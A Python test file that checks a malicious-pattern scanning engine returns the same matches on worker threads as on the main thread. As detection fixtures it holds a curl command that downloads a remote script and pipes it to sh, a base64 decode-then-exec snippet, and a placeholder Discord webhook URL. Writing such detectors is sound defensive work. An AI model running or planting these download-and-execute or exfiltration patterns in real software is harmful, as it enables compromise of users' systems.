"""The pattern engine is used from worker threads (the app's lanes, scan --jobs).

yara-x scanners may only be used on the thread that made them; a scanner shared across
threads panics. This scans the same text on the main thread and then on two workers.
"""

import threading

from app.core.capabilities.patterns import engine

TEXT = "curl -s http://203.0.113.5/stage2.sh | sh\n"


def on_two_threads(fn):
    """``fn()`` run once on each of two worker threads: (results, errors)."""
    results, errors = [], []

    def work():
        try:
            results.append(fn())
        except BaseException as exc:  # noqa: BLE001 - a pyo3 panic is a BaseException
            errors.append(exc)

    threads = [threading.Thread(target=work) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return results, errors


def test_the_same_engine_scans_on_several_threads():
    e = engine()
    expected = [(m.start, m.end) for m in e.scan(TEXT, "shell")]
    assert expected, "the shell download pattern should match"
    results, errors = on_two_threads(lambda: [(m.start, m.end) for m in e.scan(TEXT, "shell")])
    assert not errors
    assert results == [expected, expected]


def test_python_analysis_with_string_signals_runs_on_worker_threads():
    from app.core.capabilities.scan import scan_text

    src = (
        'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'
        'u = "https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyz"\n'
    )
    expected = sorted((h.capability, h.line) for h in scan_text("pkg/mod.py", src))
    assert ("exec.decode_then_exec", 2) in expected
    results, errors = on_two_threads(
        lambda: sorted((h.capability, h.line) for h in scan_text("pkg/mod.py", src))
    )
    assert not errors
    assert results == [expected, expected]
